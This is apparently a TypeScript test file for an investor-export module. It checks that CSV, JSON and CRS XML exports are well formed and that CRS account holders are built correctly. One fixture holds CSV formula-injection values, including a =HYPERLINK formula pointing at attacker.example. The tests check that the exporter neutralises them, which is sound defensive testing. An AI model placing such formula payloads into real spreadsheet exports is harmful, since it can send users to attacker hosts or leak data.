// The export artifacts' writers (src/domain/exports/artifact.ts, investors.ts, crsXml.ts), page by
// page as the export job writes them: CSV a spreadsheet opens without running investor data as a
// formula, JSON that parses whatever the paging, and CRS XML that is well formed with each account
// holder built from the application's key persons.
import { parse } from "csv-parse/sync";
import { create } from "xmlbuilder2";
import { artifactWriter } from "../../../src/domain/exports/artifact";
import { APPLICATION_COLUMNS, BUSINESS_COLUMNS, CSV_HEADER, INDIVIDUAL_COLUMNS, type ExportIndividual } from "../../../src/domain/exports/columns";
import { accountHolderOf, personOf, type ExportApplication } from "../../../src/domain/exports/investors";

const at = new Date("2026-11-20T10:00:00.000Z");
const person = (over: Record<string, unknown>) => ({
  id: "ind-1",
  applicationId: "app-1",
  role: "APPLICANT",
  firstName: "Ada",
  lastName: "Lovelace",
  dateOfBirth: "1815-12-10",
  placeOfBirth: "London",
  nationality: "GB",
  residenceCountry: "GB",
  address: { street: "12 St James's Square", city: "London", postCode: "SW1Y 4JH", country: "GB" },
  tins: [{ tin: "AB123456C", issuedBy: "GB" }],
  ownershipPercent: null,
  screeningInfo: null,
  screeningSummary: null,
  createdAt: at,
  updatedAt: at,
  ...over,
});
const business = (over: Record<string, unknown>) => ({
  id: "bus-1",
  applicationId: "app-2",
  role: "APPLICANT",
  name: "Analytical Engines Ltd",
  registrationNumber: "01234567",
  country: "GB",
  address: { city: "London", country: "GB" },
  tins: [],
  ownershipPercent: null,
  screeningInfo: null,
  screeningSummary: null,
  createdAt: at,
  updatedAt: at,
  ...over,
});
const application = (over: Record<string, unknown>): ExportApplication =>
  ({
    id: "app-1",
    accountId: "acc",
    name: "Ada Lovelace",
    email: "ada@example.com",
    entityType: "INDIVIDUAL",
    status: "APPROVED",
    riskScore: null,
    riskLevel: null,
    createdAt: at,
    updatedAt: at,
    individuals: [],
    businesses: [],
    ...over,
  }) as unknown as ExportApplication;

const individualApp = application({ individuals: [person({})] });
const businessApp = application({
  id: "app-2",
  name: "Analytical Engines Ltd",
  entityType: "BUSINESS",
  businesses: [business({})],
  individuals: [
    person({ id: "ind-2", applicationId: "app-2", role: "UBO", firstName: "Charles", lastName: "Babbage", ownershipPercent: 60 }),
    person({ id: "ind-3", applicationId: "app-2", role: "DIRECTOR", firstName: "Dee", lastName: "Rector" }),
  ],
});
const hostile = application({
  id: "app-3",
  name: '=HYPERLINK("http://attacker.example/?x","click")',
  email: "+1@example.com",
  individuals: [person({ id: "ind-4", applicationId: "app-3", firstName: "-2+3", lastName: "@SUM(A1)" })],
});
const empty = application({ id: "app-4", name: "No Persons Yet" });

/** Writes the applications as the export job does: head, one page per group, tail. */
function write(format: "CSV" | "JSON" | "CRS_XML", pages: ExportApplication[][]): string {
  const writer = artifactWriter(format);
  return writer.head() + pages.map((p) => writer.page(p)).join("") + writer.tail();
}

describe("the CSV export", () => {
  const text = write("CSV", [
    [individualApp, businessApp],
    [hostile, empty],
  ]);
  const rows = parse(text, { columns: true }) as Record<string, string>[];

  it("has its header, then one row per key person and one for an application with none, CRLF-separated", () => {
    expect(text.split("\r\n")[0]).toBe(CSV_HEADER.join(","));
    expect(rows.map((r) => [r.applicationId, r.personKind, r.name])).toEqual([
      ["app-1", "INDIVIDUAL", "Ada Lovelace"],
      ["app-2", "INDIVIDUAL", "Charles Babbage"],
      ["app-2", "INDIVIDUAL", "Dee Rector"],
      ["app-2", "BUSINESS", "Analytical Engines Ltd"],
      ["app-3", "INDIVIDUAL", "'-2+3 @SUM(A1)"],
      ["app-4", "", ""],
    ]);
    expect(rows[0]).toMatchObject({
      address: "12 St James's Square, SW1Y 4JH, London, GB",
      tins: "GB:AB123456C",
      dateOfBirth: "1815-12-10",
      createdAt: at.toISOString(),
    });
    expect(rows[3]).toMatchObject({ registrationNumber: "01234567", country: "GB", role: "APPLICANT" });
  });

  it("writes every row as wide as its header, whichever kind of person it is about", () => {
    const lines = parse(text) as string[][];
    expect(lines[0]).toEqual([...CSV_HEADER]);
    for (const line of lines) expect(line).toHaveLength(CSV_HEADER.length);
  });

  it("never lets investor data start a cell as a formula", () => {
    const hostileRow = rows.find((r) => r.applicationId === "app-3")!;
    expect(hostileRow.applicationName).toBe(`'=HYPERLINK("http://attacker.example/?x","click")`);
    expect(hostileRow.email).toBe("'+1@example.com");
    expect(hostileRow.firstName).toBe("'-2+3");
    expect(hostileRow.lastName).toBe("'@SUM(A1)");
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("the JSON export", () => {
  it("is one array whatever the paging, with each application's key persons", () => {
    const onePage = JSON.parse(write("JSON", [[individualApp, businessApp, hostile, empty]]));
    const paged = JSON.parse(write("JSON", [[individualApp], [], [businessApp, hostile], [empty]]));
    expect(paged).toEqual(onePage);
    expect(paged.map((a: { id: string }) => a.id)).toEqual(["app-1", "app-2", "app-3", "app-4"]);
    expect(JSON.parse(write("JSON", []))).toEqual([]);
  });

  it("carries exactly the declared columns: the application's (not its account) and each person's", () => {
    const [record] = JSON.parse(write("JSON", [[businessApp]]));
    const declared = (columns: object) => Object.keys(columns).sort();
    expect(Object.keys(record).sort()).toEqual([...declared(APPLICATION_COLUMNS).filter((c) => c !== "accountId"), "businesses", "individuals"].sort());
    expect(Object.keys(record.individuals[0]).sort()).toEqual(declared(INDIVIDUAL_COLUMNS));
    expect(Object.keys(record.businesses[0]).sort()).toEqual(declared(BUSINESS_COLUMNS));
  });
});

describe("the CRS XML export", () => {
  it("is well formed, one AccountReport per application, with markup in names escaped", () => {
    const xml = write("CRS_XML", [
      [individualApp],
      [businessApp, application({ id: "app-5", individuals: [person({ id: "ind-5", lastName: "O'Brien & <Sons>" })] })],
    ]);
    const lastNames = create(xml)
      .root()
      .filter((n) => n.node.nodeName === "crs:LastName", true, true)
      .map((n) => n.node.textContent);
    expect(lastNames).toEqual(["Lovelace", "Babbage", "O'Brien & <Sons>"]);
    expect(xml).toContain("O'Brien &amp; &lt;Sons&gt;");
    expect(xml.match(/<crs:AccountReport>/g)).toHaveLength(3);
  });
});

describe("an account holder as CRS sees it", () => {
  it("is the applicant for an individual, resident where stated and where each TIN was issued", () => {
    const holder = accountHolderOf(
      application({
        individuals: [
          person({
            residenceCountry: "FR",
            tins: [
              { tin: "1", issuedBy: "DE" },
              { tin: "", issuedBy: "IT" },
            ],
          }),
        ],
      }),
    );
    expect(holder).toMatchObject({
      kind: "INDIVIDUAL",
      person: { firstName: "Ada", residences: ["FR", "DE"], tins: [{ tin: "1", issuedBy: "DE" }], nationalities: ["GB"] },
    });
  });

  it("is the business with its UBOs and controlling persons for an entity: by ownership CRS801, otherwise CRS802; directors are not reported", () => {
    const holder = accountHolderOf(
      application({
        ...businessApp,
        individuals: [...businessApp.individuals, person({ id: "ind-6", role: "CONTROLLING_PERSON", firstName: "Cora", lastName: "Control" })],
      }),
    ) as Extract<ReturnType<typeof accountHolderOf>, { kind: "ORGANISATION" }>;
    expect(holder.acctHolderType).toBe("CRS101");
    expect(holder.organisation).toMatchObject({
      name: "Analytical Engines Ltd",
      residences: ["GB"],
      identifiers: [{ value: "01234567", issuedBy: "GB", type: "Company registration number" }],
    });
    expect(holder.controllingPersons.map((c) => [c.person.lastName, c.type])).toEqual([
      ["Babbage", "CRS801"],
      ["Control", "CRS802"],
    ]);
  });

  it("has no holder type and no controlling persons for an entity with none on file, and an empty person for an individual without an applicant", () => {
    expect(accountHolderOf(application({ ...businessApp, individuals: [] }))).toMatchObject({ acctHolderType: null, controllingPersons: [] });
    expect(accountHolderOf(empty)).toEqual({
      kind: "INDIVIDUAL",
      person: { firstName: null, lastName: null, residences: [], tins: [], addresses: [], nationalities: [], birthDate: null, birthCity: null },
    });
    expect(personOf(person({ address: [{ country: "GB" }, { city: "Paris", country: "FR" }] }) as ExportIndividual).addresses).toEqual([
      { country: "GB", street: null, city: null, postCode: null },
      { country: "FR", street: null, city: "Paris", postCode: null },
    ]);
  });
});
